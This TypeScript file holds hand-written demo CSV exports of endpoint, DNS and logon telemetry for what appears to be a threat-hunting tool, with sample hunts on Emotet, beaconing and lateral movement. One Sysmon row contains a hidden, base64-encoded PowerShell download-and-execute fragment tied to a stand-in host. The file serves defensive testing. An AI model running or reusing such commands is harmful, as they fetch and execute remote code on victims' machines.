// The demo's CSV exports: small, hand-written, and sharing indicators, hosts and time windows across hunts,
// and some of the background real hunts share (Office 365, which the bundled warninglists set aside).

export interface DemoExport {
  filename: string;
  sourceTool: string;
  csv: string;
}

const FIN_NETSTAT = `Timestamp,Hostname,Pid,Name,Laddr.IP,Laddr.Port,Raddr.IP,Raddr.Port,Status
2024-03-12 08:01:10,FIN-WS-014,4312,powershell.exe,10.20.4.14,49822,185.220.101.45,443,ESTABLISHED
2024-03-12 08:01:42,FIN-WS-014,4312,powershell.exe,10.20.4.14,49830,185.220.101.45,443,ESTABLISHED
2024-03-12 08:05:03,FIN-WS-014,1220,outlook.exe,10.20.4.14,49901,52.97.146.2,443,ESTABLISHED
2024-03-12 09:12:55,FIN-WS-022,2288,chrome.exe,10.20.4.22,50112,142.250.74.110,443,ESTABLISHED
2024-03-12 10:30:00,FIN-WS-022,3104,rundll32.exe,10.20.4.22,50140,91.215.85.17,8443,SYN_SENT
`;

const FIN_SYSMON = `UtcTime,Computer,Image,CommandLine,SHA256,DestinationHostname
2024-03-12 08:00:58,FIN-WS-014,C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe,"powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08,update-check.example-cdn.net
2024-03-12 08:02:15,FIN-WS-014,C:\\Users\\mlopez\\AppData\\Local\\Temp\\invoice_0312.exe,"C:\\Users\\mlopez\\AppData\\Local\\Temp\\invoice_0312.exe /s",3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a,cdn.office-invoices.com
2024-03-12 08:05:02,FIN-WS-014,C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE,"""C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"" /recycle",d2a1f0e3c4b5a6978877665544332211ffeeddccbbaa99887766554433221100,outlook.office365.com
`;

const BUILD_NETSTAT = `Timestamp,Hostname,Pid,Name,Laddr.IP,Laddr.Port,Raddr.IP,Raddr.Port,Status
2024-03-12 07:45:00,BUILD-07,880,java.exe,10.30.1.7,51200,185.220.101.45,443,ESTABLISHED
2024-03-12 08:45:00,BUILD-07,880,java.exe,10.30.1.7,51230,185.220.101.45,443,ESTABLISHED
2024-03-12 09:45:00,BUILD-07,880,java.exe,10.30.1.7,51260,185.220.101.45,443,ESTABLISHED
2024-03-12 09:50:12,BUILD-09,1430,outlook.exe,10.30.1.9,51290,52.97.146.2,443,ESTABLISHED
2024-03-12 10:15:21,BUILD-09,912,git.exe,10.30.1.9,51311,140.82.121.4,443,TIME_WAIT
2024-03-12 11:02:40,fin-ws-014,5120,powershell.exe,10.20.4.14,52001,10.30.1.7,5985,ESTABLISHED
`;

const BUILD_DNS = `time;client_ip;query_name;answer
2024-03-12 07:44:58;10.30.1.7;UPDATE-CHECK.example-cdn.net;185.220.101.45
2024-03-12 08:44:59;10.30.1.7;update-check.example-cdn.net;185.220.101.45
2024-03-12 09:50:11;10.30.1.9;outlook.office365.com;52.97.146.2
2024-03-12 10:15:20;10.30.1.9;github.com;140.82.121.4
`;

const LATERAL_LOGONS = `Timestamp,EventID,ComputerName,TargetUserName,IpAddress,LogonType
2024-03-11 22:10:05,4624,FIN-WS-014,svc_backup,10.30.1.7,3
2024-03-12 11:02:41,4624,BUILD-07,mlopez,10.20.4.14,3
2024-03-12 11:03:10,4672,BUILD-07,mlopez,10.20.4.14,3
`;

export const DEMO_EXPORTS: Record<string, DemoExport[]> = {
  "Emotet follow-up, finance": [
    { filename: "fin-netstat.csv", sourceTool: "velociraptor", csv: FIN_NETSTAT },
    { filename: "fin-sysmon-process.csv", sourceTool: "sysmon", csv: FIN_SYSMON },
  ],
  "Beaconing from build servers": [
    { filename: "build-netstat.csv", sourceTool: "velociraptor", csv: BUILD_NETSTAT },
    { filename: "build-dns.csv", sourceTool: "proxy", csv: BUILD_DNS },
  ],
  "Lateral movement review": [{ filename: "admin-logons.csv", sourceTool: "windows-events", csv: LATERAL_LOGONS }],
};
